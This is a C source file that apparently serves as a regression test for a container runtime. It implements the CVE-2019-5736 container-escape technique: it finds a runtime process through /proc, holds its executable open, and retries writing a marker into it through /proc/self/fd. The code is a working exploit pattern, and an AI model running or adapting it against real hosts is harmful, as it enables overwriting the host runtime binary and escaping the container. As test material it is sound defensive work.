/* exeattack: the CVE-2019-5736 attack, run inside a container by the tests.
 *
 *   exeattack SECONDS
 *
 * Scans /proc, as fast as it can, for a process whose executable is neither
 * this program nor busybox: a runtime process that entered the container
 * (the exec child, or the init of a container sharing our pid namespace)
 * and is still the runtime's binary. The kernel lets us open its
 * /proc/PID/exe once it runs with our own capabilities, between dropping
 * them and its execve. Then we try, until SECONDS have passed, to reopen
 * that file for writing through /proc/self/fd/N (ETXTBSY while anyone
 * still runs it) and append a marker to it.
 *
 * Prints one line per step; "ATTACK WORKED" only when bytes were written
 * into the runtime's executable. Exit status 0 once an exe was opened. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int same_file(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* An fd on the executable of some other, non-busybox process, or -1. */
static int find_runtime_exe(const struct stat *self, const struct stat *bb, pid_t *pid_out)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int found = -1;

	if (d == NULL)
		return -1;
	while (found < 0 && (e = readdir(d)) != NULL) {
		char path[64];
		struct stat st;
		pid_t pid = atoi(e->d_name);
		int fd;

		if (pid <= 0 || pid == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (fstat(fd, &st) < 0 || same_file(&st, self) || same_file(&st, bb)) {
			close(fd);
			continue;
		}
		/* Direct write access, while the runtime still runs it. */
		int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		printf("direct open for writing of /proc/%d/exe: %s\n", pid,
		       w >= 0 ? "succeeded" : strerror(errno));
		if (w >= 0) {
			if (write(w, "PWNED\n", 6) > 0)
				printf("ATTACK WORKED: wrote into the runtime's executable\n");
			close(w);
		}
		*pid_out = pid;
		found = fd;
	}
	closedir(d);
	return found;
}

int main(int argc, char **argv)
{
	struct stat self, bb;
	double deadline;
	pid_t pid = 0;
	int exe = -1;

	if (argc != 2) {
		fprintf(stderr, "usage: exeattack SECONDS\n");
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	deadline = now() + atof(argv[1]);
	if (stat("/proc/self/exe", &self) < 0 || stat("/bin/busybox", &bb) < 0) {
		perror("exeattack: stat");
		return 2;
	}
	printf("attacker ready\n");
	while (exe < 0 && now() < deadline)
		exe = find_runtime_exe(&self, &bb, &pid);
	if (exe < 0) {
		printf("no runtime process seen\n");
		return 1;
	}
	char target[256] = "";
	char link[64];
	snprintf(link, sizeof(link), "/proc/self/fd/%d", exe);
	ssize_t n = readlink(link, target, sizeof(target) - 1);
	target[n > 0 ? n : 0] = '\0';
	printf("opened the exe of pid %d: %s\n", pid, target);

	int last = 0;
	while (now() < deadline) {
		int w = open(link, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (w < 0) {
			last = errno;
			if (errno == ETXTBSY) {
				usleep(1000);
				continue;
			}
			printf("open for writing through /proc/self/fd: %s\n", strerror(errno));
			return 0;
		}
		printf("open for writing through /proc/self/fd: succeeded\n");
		if (write(w, "PWNED\n", 6) > 0)
			printf("ATTACK WORKED: wrote into the runtime's executable\n");
		else
			printf("write: %s\n", strerror(errno));
		close(w);
		return 0;
	}
	printf("open for writing through /proc/self/fd: %s until the deadline\n", strerror(last));
	return 0;
}
